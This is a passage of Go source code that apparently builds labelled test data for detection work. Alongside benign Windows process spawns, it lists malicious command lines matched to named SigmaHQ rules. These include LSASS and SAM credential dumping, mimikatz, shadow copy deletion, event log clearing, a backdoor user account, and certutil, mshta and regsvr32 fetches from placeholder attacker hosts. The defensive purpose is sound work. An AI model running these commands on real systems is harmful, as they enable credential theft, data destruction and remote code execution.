	{w: 1, parent: "svchost:sched", child: "mpcmdrun", cmd: `"«img»" «|-IdleTask -TaskName WdCacheMaintenance|-IdleTask -TaskName WdCleanup|-IdleTask -TaskName WdVerification|Scan -ScheduleJob -ScanTrigger 55|SignaturesUpdateService -ScheduleJob -UnmanagedUpdate»`, acct: acSystem},
	{w: 2, parent: "msmpeng", child: "mpcmdrun", cmd: `"«img»" -wdenable`},
	{w: 1, on: rWS, parent: "explorer", child: "onedrive", cmd: `"«img»" /background`},
	{w: 1, on: rWS, parent: "svchost:sched", child: "onedriveupdater", cmd: `"«img»" /reporting`, acct: acUser},
	{w: 1, on: rWS, parent: "svchost:dcom", child: "filecoauth", cmd: `"«img»" -Embedding`, acct: acUser},
	{w: 1, on: rWS, parent: "svchost:sched", child: "googleupdate", cmd: `"«img»" /ua /installsource scheduler`},
	{w: 1, parent: "svchost:sched", child: "edgeupdate", cmd: `"«img»" «|/ua /installsource scheduler|/c»`},
	{w: 1, parent: "svchost:dcom", child: "tiworker", cmd: `«img» -Embedding`},
	{w: 2, parent: "svchost:dcom", child: "mousocoreworker", cmd: `C:\Windows\System32\mousocoreworker.exe -Embedding`},
	{w: 1, parent: "svchost:sched", child: "compattelrunner", cmd: `C:\Windows\system32\compattelrunner.exe «|-m:appraiser.dll -f:DoScheduledTelemetryRun|-maintenance|-m:aeinv.dll -f:UpdateSoftwareInventoryW invsvc|-m:generaltel.dll -f:DoCensusRun»`},
	{w: 1, parent: "svchost:sched", child: "wermgr", cmd: `C:\Windows\system32\wermgr.exe -upload`},
	{w: 1, on: rWS, parent: "excel", child: "werfault", cmd: `C:\Windows\system32\WerFault.exe -u -p «ppid» -s «n:100-9999»`},
	{w: 2, on: rWS, parent: "svchost:dcom", child: "smartscreen", cmd: `C:\Windows\System32\smartscreen.exe -Embedding`, acct: acUser},
	{w: 1, on: rWS, parent: "svchost:appinfo", child: "consent", cmd: `consent.exe «ppid» «n:200-600» 000001«X:8»`, acct: acSystem},
	{w: 1, on: rWS, parent: "userinit", child: "explorer", cmd: `C:\Windows\Explorer.EXE`},
	{w: 1, on: rSrv, parent: "svchost:dcom", child: "wsmprovhost", cmd: `C:\Windows\system32\wsmprovhost.exe -Embedding`},
	{w: 1, on: rWeb, parent: "svchost:iis", child: "w3wp"},
	{w: 1, on: rSrv, parent: "explorer", child: "mmc", cmd: `"C:\Windows\system32\mmc.exe" "C:\Windows\system32\«|dsa.msc|gpmc.msc|dnsmgmt.msc|eventvwr.msc|services.msc|compmgmt.msc»" `},
	{w: 1, parent: "explorer", child: "taskmgr", cmd: `"C:\Windows\system32\taskmgr.exe" /«n:2-7»`},
	{w: 1, parent: "services", child: "msiexec", cmd: `C:\Windows\system32\msiexec.exe /V`},
}

// malSpawns are the malicious process creations. Each follows the pattern
// of a well-known SigmaHQ rule (named in the comment).
var malSpawns = []spawnT{
	// Webshell Recon / Webshell Detection With Command Line Keywords
	{w: 3, on: rWeb, parent: "w3wp", child: "whoami", cmd: `"C:\Windows\system32\whoami.exe" /all`, label: "webshell_whoami"},
	// Chopper Webshell Process Pattern
	{w: 1, on: rWeb, parent: "w3wp", child: "cmd", cmd: `cmd.exe /c cd /d "C:\inetpub\wwwroot\"&whoami&echo [S]&cd&echo [E]`, label: "webshell_chopper"},
	// Shadow Copies Deletion Using Operating Systems Utilities
	{w: 3, parent: "cmd", child: "vssadmin", cmd: `vssadmin.exe  delete shadows /all /quiet`, acct: acAdmin, il: "High", label: "shadow_delete"},
	// Suspicious Execution of Powershell with Base64 / Office spawning PowerShell
	{w: 3, on: rWS, parent: "winword", child: "powershell", cmd: `powershell.exe -nop -w hidden -enc «b64ps»`, label: "ps_encoded"},
	// Suspicious Download Via Certutil.EXE
	{w: 3, parent: "cmd", child: "certutil", cmd: `certutil.exe -urlcache -split -f http://«badip»/«payload».exe C:\Users\Public\«payload».exe`, label: "certutil_download"},
	// Process Memory Dump Via Comsvcs.DLL
	{w: 3, parent: "cmd", child: "rundll32", cmd: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump «lsass» C:\Windows\Temp\«a:6».dmp full`, acct: acAdmin, il: "High", label: "comsvcs_minidump"},
	// Remotely Hosted HTA File Executed Via Mshta.EXE
	{w: 1, on: rWS, parent: "outlook", child: "mshta", cmd: `"C:\Windows\System32\mshta.exe" http://«baddom»/invoice.hta`, label: "mshta_remote"},
	// Potential Regsvr32 Commandline Flag Anomaly / Squiblydoo
	{w: 1, on: rWS, parent: "cmd", child: "regsvr32", cmd: `regsvr32.exe /s /n /u /i:http://«badip»/file.sct scrobj.dll`, label: "regsvr32_squiblydoo"},
	// Schtasks From Suspicious Folders
	{w: 1, parent: "cmd", child: "schtasks", cmd: `schtasks  /create /tn "MicrosoftEdgeUpdateTaskMachine«a:4»" /tr "C:\Users\Public\«payload».exe" /sc onlogon /ru System /f`, acct: acAdmin, il: "High", label: "schtasks_public"},
	// Suspicious Eventlog Clearing or Configuration Change Activity
	{w: 1, parent: "cmd", child: "wevtutil", cmd: `wevtutil  cl Security`, acct: acAdmin, il: "High", label: "wevtutil_clear"},
	// New User Created Via Net.EXE
	{w: 1, parent: "cmd", child: "net", cmd: `net  user support_it P@ssw0rd2026! /add`, acct: acAdmin, il: "High", label: "net_user_add"},
	// Dumping of Sensitive Hives Via Reg.EXE
	{w: 1, parent: "cmd", child: "reg", cmd: `reg  save HKLM\SAM C:\Windows\Temp\sam.save`, acct: acAdmin, il: "High", label: "reg_save_sam"},
	// HackTool - Mimikatz Execution
	{w: 1, parent: "cmd", child: "mimikatz", cmd: `"C:\Users\Public\mimikatz.exe" "privilege::debug" "sekurlsa::logonpasswords" exit`, acct: acAdmin, il: "High", label: "mimikatz"},
	// Boot Configuration Tampering Via Bcdedit.EXE
	{w: 1, parent: "cmd", child: "bcdedit", cmd: `bcdedit  /set {default} recoveryenabled No`, acct: acAdmin, il: "High", label: "bcdedit_recovery"},
}

var (
	spawnTable    = newByRole(spawns, func(t *spawnT) int { return t.w }, func(t *spawnT) roles { return t.on })
	malSpawnTable = func() table[*spawnT] {
		var t table[*spawnT]
		for i := range malSpawns {
			t.add(&malSpawns[i], malSpawns[i].w)
		}
		return t
	}()
)
